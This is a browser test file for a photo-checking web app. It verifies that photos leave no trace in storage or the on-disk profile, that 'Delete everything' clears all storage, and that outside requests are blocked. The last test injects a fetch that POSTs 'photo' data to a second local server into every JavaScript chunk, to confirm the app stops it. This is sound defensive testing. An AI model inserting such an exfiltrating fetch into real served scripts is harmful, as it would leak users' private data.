/**
 * What the privacy page promises, tried by somebody who wants it broken: no byte of a photo is stored unasked, nothing is left by "Delete
 * everything" in the middle of a run, and code that a chunk should not hold reaches no other server. In Chromium.
 */
import { mkdtemp, readFile, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { chromium } from 'playwright-core';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { CHROMIUM_ARGS } from '../../scripts/chromium.js';
import type { StaticServer } from '../../scripts/server.js';
import { SMALL_DIST, WITH_SERVICE_WORKER, openBrowser, serveSmallApp } from '../fixtures/browser.js';
import { spotPhoto } from '../fixtures/spot-photo.js';
import type { ChosenFile } from '../fixtures/spot-photo.js';
import { ask, choosePhoto, waitForServiceWorker, waitUntilReady } from './app.js';

let server: StaticServer;
let photo: ChosenFile;
beforeAll(async () => {
  server = await serveSmallApp();
  photo = await spotPhoto();
});
afterAll(() => server.close());

/** Everything that a page of the origin can read of what is stored, by where it lies: `cache naevus-wasm: http://…`, `cookie`. */
function readStorages(): Promise<Record<string, string>> {
  const latin1 = async (blob: Blob): Promise<string> => {
    const bytes = new Uint8Array(await blob.arrayBuffer());
    let text = '';
    for (let at = 0; at < bytes.length; at += 8192) text += String.fromCharCode(...bytes.subarray(at, at + 8192));
    return text;
  };
  const done = <Result>(request: IDBRequest<Result>): Promise<Result> =>
    new Promise((resolve, reject) => {
      request.addEventListener('success', () => resolve(request.result));
      request.addEventListener('error', () => reject(new Error('the database can’t be read')));
    });
  const plain = async (value: unknown): Promise<unknown> => {
    if (value instanceof Blob) return latin1(value);
    if (ArrayBuffer.isView(value) || value instanceof ArrayBuffer) return latin1(new Blob([value as ArrayBuffer]));
    if (typeof value !== 'object' || value === null) return value;
    return Promise.all(Object.entries(value).map(async ([key, inner]) => [key, await plain(inner)]));
  };
  const read = async (): Promise<Record<string, string>> => {
    const found: Record<string, string> = {};
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      found[`cache ${name}`] = '';
      for (const request of await cache.keys()) {
        const response = await cache.match(request);
        found[`cache ${name}: ${request.url}`] = response ? await latin1(await response.blob()) : '';
      }
    }
    for (const { name = '' } of await indexedDB.databases()) {
      const database = await done(indexedDB.open(name));
      found[`database ${name}`] = '';
      for (const store of database.objectStoreNames)
        found[`database ${name}: ${store}`] = JSON.stringify(
          await plain(await done(database.transaction(store).objectStore(store).getAll())),
        );
      database.close();
    }
    for (const [kind, storage] of Object.entries({ localStorage, sessionStorage }))
      for (const key of Object.keys(storage)) found[`${kind} ${key}`] = String(storage.getItem(key));
    if (document.cookie !== '') found['cookie'] = document.cookie;
    const directory = await navigator.storage.getDirectory();
    for await (const [name] of directory as unknown as AsyncIterable<[string]>) found[`private file ${name}`] = '';
    for (const { scope } of await navigator.serviceWorker.getRegistrations()) found[`service worker ${scope}`] = '';
    return found;
  };
  return read();
}

/** Pieces out of the middle of a photo, each long enough to be in no other file. */
function piecesOf({ buffer }: ChosenFile): Buffer[] {
  return [0.3, 0.5, 0.7].map((part) => buffer.subarray(Math.floor(buffer.length * part)).subarray(0, 32));
}

/** The names of those that hold a piece of the photo, as it is or as text in base64. */
function holding(photo: ChosenFile, contents: readonly (readonly [name: string, content: Buffer])[]): string[] {
  // Of the three ways in which bytes can lie in base64, the middle of one is in each.
  const inBase64 = piecesOf(photo).flatMap((piece) =>
    [0, 1, 2].map((offset) =>
      Buffer.from(
        piece
          .subarray(offset, offset + 24)
          .toString('base64')
          .replace(/=/gu, ''),
      ),
    ),
  );
  const needles = [...piecesOf(photo), ...inBase64];
  return contents.filter(([, content]) => needles.some((needle) => content.includes(needle))).map(([name]) => name);
}

/** What begins as JPEG, PNG, WebP or GIF does, and is none of the app's own pictures: a preview would be one. */
const PICTURE = /^(?:\u00ff\u00d8\u00ff|\u0089PNG|RIFF.{4}WEBP|GIF8)|data:image/su;
const picturesIn = (storages: Readonly<Record<string, string>>): string[] =>
  Object.entries(storages).flatMap(([name, content]) =>
    PICTURE.test(content) && !/\/(?:icons|assets)\//u.test(name) ? [name] : [],
  );

async function filesBelow(dir: string): Promise<(readonly [string, Buffer])[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true });
  const files = entries.filter((entry) => entry.isFile()).map((entry) => path.join(entry.parentPath, entry.name));
  return Promise.all(files.map(async (file) => [path.relative(dir, file), await readFile(file)] as const));
}

describe('a photo', () => {
  it('that was answered is in no storage, and nowhere in the profile on the disk', async () => {
    const profile = await mkdtemp(path.join(tmpdir(), 'naevus-profile-'));
    const open = (): Promise<BrowserContext> =>
      chromium.launchPersistentContext(profile, { executablePath: inject('chromiumPath'), args: [...CHROMIUM_ARGS] });
    const context = await open();
    const page = await context.newPage();
    await page.goto(server.origin);
    await ask(page, photo);
    await waitForServiceWorker(page);
    const storages = await page.evaluate(readStorages);
    expect(Object.keys(storages).some((name) => name.includes('weights.bin'))).toBe(true);
    const inStorages = Object.entries(storages).map(([name, content]) => [name, Buffer.from(content, 'latin1')] as const);
    expect(holding(photo, inStorages)).toEqual([]);
    expect(picturesIn(storages)).toEqual([]);
    await context.close();
    expect(holding(photo, await filesBelow(profile))).toEqual([]);

    // The same search finds it where it is stored, so that finding nothing means something.
    const again = await open();
    const writing = await again.newPage();
    await writing.goto(server.origin);
    await writing.evaluate(async (base64) => {
      const cache = await caches.open('control');
      await cache.put('photo', new Response(Uint8Array.from(atob(base64), (letter) => letter.charCodeAt(0))));
      localStorage.setItem('control', base64.slice(0, 1_000_000));
    }, photo.buffer.toString('base64'));
    const control = await writing.evaluate(readStorages);
    const written = Object.entries(control).map(([name, content]) => [name, Buffer.from(content, 'latin1')] as const);
    expect(holding(photo, written)).toEqual([`cache control: ${server.origin}/photo`, 'localStorage control']);
    expect(picturesIn(control)).toEqual([`cache control: ${server.origin}/photo`]);
    await again.close();
    expect(holding(photo, await filesBelow(profile)).length).toBeGreaterThan(0);
    await rm(profile, { recursive: true });
  });
});

describe('in a shared Chromium', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await openBrowser();
  });
  afterAll(() => browser.close());

  /** Starts a bench run of many images, each with other bytes. */
  async function startRun(page: Page, count: number): Promise<void> {
    await page.getByRole('link', { name: 'Bench' }).first().click();
    await page.locator('[data-choose=files]').waitFor({ state: 'attached' });
    const files = Array.from({ length: count }, (_, at) => ({
      ...photo,
      name: `${at}-${photo.name}`,
      buffer: Buffer.concat([photo.buffer, Buffer.from(`image ${at}`)]),
    }));
    await page.locator('[data-choose=files]').setInputFiles(files);
    await page.waitForFunction(() => Number(document.querySelector('[data-done]')?.getAttribute('data-done')) >= 2);
  }

  it('“Delete everything” leaves nothing, in the middle of a run and with a photo that is kept', async () => {
    const count = 150;
    const context = await browser.newContext(WITH_SERVICE_WORKER);
    const page = await context.newPage();
    await page.addInitScript(() => {
      localStorage.setItem('naevus.preferences', JSON.stringify({ version: 1, keepsPhoto: true, isIntroduced: true }));
    });
    await page.goto(server.origin);
    await waitUntilReady(page);
    await waitForServiceWorker(page);
    await choosePhoto(page, photo);
    await page.getByRole('button', { name: 'Check this spot' }).waitFor();
    await expect
      .poll(async () => Object.keys(await page.evaluate(readStorages)).filter((name) => name.startsWith('cache naevus-photo:')))
      .toHaveLength(1);
    await startRun(page, count);
    await page.getByRole('link', { name: 'Privacy', exact: true }).first().click();
    const before = Object.keys(await page.evaluate(readStorages));
    for (const kind of [
      'cache workbox-',
      'cache naevus-model',
      'database naevus-bench: results',
      'localStorage naevus',
      'service worker',
    ])
      expect(
        before.some((name) => name.startsWith(kind)),
        kind,
      ).toBe(true);
    await page.getByRole('button', { name: 'Delete all of it' }).click();
    await page.getByRole('button', { name: 'Yes, delete' }).click();
    await page.getByText('Deleted. This page works until you close it').last().waitFor();
    expect(await page.evaluate(readStorages)).toEqual({});
    // The run was stopped, and a look at it brings nothing back.
    await page.getByRole('link', { name: 'Bench' }).first().click();
    await page.locator('[data-choose=files]').waitFor({ state: 'attached' });
    await page.getByRole('link', { name: 'Privacy', exact: true }).first().click();
    await page.locator('[data-elsewhere]').waitFor();
    expect(await page.evaluate(readStorages)).toEqual({});
    expect(await context.cookies()).toEqual([]);
    await context.close();
  });

  it('a request to elsewhere that was slipped into any chunk is stopped, and the privacy page tells of it', async () => {
    const elsewhere = await serveSmallApp();
    const chunks = (await readdir(path.join(SMALL_DIST, 'assets'))).filter((name) => name.endsWith('.js'));
    const scripts = [...chunks.map((name) => `/assets/${name}`), '/service-worker.js'];
    const slipped = (script: string): string => `${elsewhere.origin}/from${script}`;
    server.setFault((url) =>
      scripts.includes(url)
        ? {
            kind: 'change-bytes',
            change: (code) =>
              Buffer.from(
                `fetch(${JSON.stringify(slipped(url))}, { method: 'POST', body: 'photo' }).catch(() => null);${code.toString()}`,
              ),
          }
        : null,
    );
    const context = await browser.newContext(WITH_SERVICE_WORKER);
    const page = await context.newPage();
    await page.goto(server.origin);
    await waitUntilReady(page);
    await waitForServiceWorker(page);
    await page.getByRole('link', { name: 'Privacy', exact: true }).first().click();
    await page.locator('[data-elsewhere]').waitFor();
    // Those that no screen has asked for yet; a worker's own may fail in the page after it has sent its request.
    // As text, since Vitest rewrites an import() in a function.
    await page.evaluate(
      `Promise.allSettled(${JSON.stringify(scripts.slice(0, -1))}.map((script) => import(script))).then(() => null)`,
    );
    const told = (): Promise<string[]> =>
      page
        .locator('[data-blocked] li')
        .evaluateAll((items) => items.map((item) => /https?:\S+\.js/u.exec(item.textContent)?.[0] ?? item.textContent));
    await expect.poll(async () => [...new Set(await told())].sort(), { timeout: 30_000 }).toEqual(scripts.map(slipped).sort());
    expect(await page.locator('[data-elsewhere]').getAttribute('data-elsewhere')).toBe('0');
    expect(elsewhere.requests).toEqual([]);
    await context.close();
    server.setFault(null);
    await elsewhere.close();
  });
});
